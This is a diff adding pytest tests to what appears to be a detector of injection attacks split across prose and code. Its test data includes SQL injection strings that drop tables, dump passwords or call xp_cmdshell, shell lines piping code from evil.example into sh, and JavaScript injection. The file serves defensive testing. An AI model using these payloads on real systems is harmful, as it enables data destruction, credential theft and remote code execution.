@@ -83,6 +83,38 @@ WITHIN = [
 ]
 
 
+ACROSS = [
+    "dear friend';\n drop table users -- ",
+    "dear friend'; \n update users set admin=1 where name='me",
+    "dear friend');\n drop table users; -- ",
+    "dear friend'\n\n    union select name, password from users\n\n-- x",
+    "dear friend'\n\n    || (select password from users limit 1) ||\n\n' thanks",
+    "x' or\n\n    1=1 or 1 in (select 1)\n\n-- hello good friend",
+    "1\n\n    union select name,pass from users\n\n-- hello good friend",
+    "1\n\n    and (select 1 from pg_sleep(10))=1\n\n-- hello good friend",
+    "1;\n\n    exec xp_cmdshell('whoami')\n\n-- hello good friend",
+    "hello dear friend |wget evil.example/x|sh",
+    "dear friend my name is `';alert(1)//` is nice",
+    'hello `";document.location=name//` my dear friend',
+    'dear friend my name ";\n\n    curl evil.example/x | sh\n\n"',
+    "- ~~~1 union select name,pass from users -- \n/*\n~~~\nhello my good friend",
+]
+"""Attacks of which a half stands in a part that shows code."""
+
+
+@pytest.mark.parametrize("attack", ACROSS)
+def test_a_text_that_goes_on_in_its_code_is_judged_as_a_whole(attack: str) -> None:
+    assert said(as_json({"a": attack})) != []
+
+
+def test_one_finding_hides_no_other_in_a_document_within_a_string() -> None:
+    excluded = 'exclude: [{family: sql, field: "body:/x/note"}]'
+    inner = json.dumps({"cmd": SQL, "note": SQL})
+    assert said(as_json({"x": inner}), excluded) == ["sql body:/x/cmd"]
+    shown = json.dumps({"a": "$(curl http://a.example/x)", "b": HONEST["fence"] + "x; curl http://e/x | sh\n"})
+    assert said(as_json({"x": shown})) != []
+
+
 @pytest.mark.parametrize("attack", OUTSIDE)
 def test_code_is_no_pass_for_what_stands_beside_it(attack: str) -> None:
     assert said(as_json({"a": PROSE.format(attack)})) != []
@@ -124,6 +156,8 @@ def test_parts_and_what_is_left() -> None:
         "```\n" * 30_000,
         "[a](" * 40_000,
         ":\nselect " * 20_000,
+        "hello\n\n" + "a(:\n" * 40_000,
+        "hello\n\n" + "a = b:\n" * 25_000,
         "> " * 80_000,
         "    a\n" * 30_000,
     ],
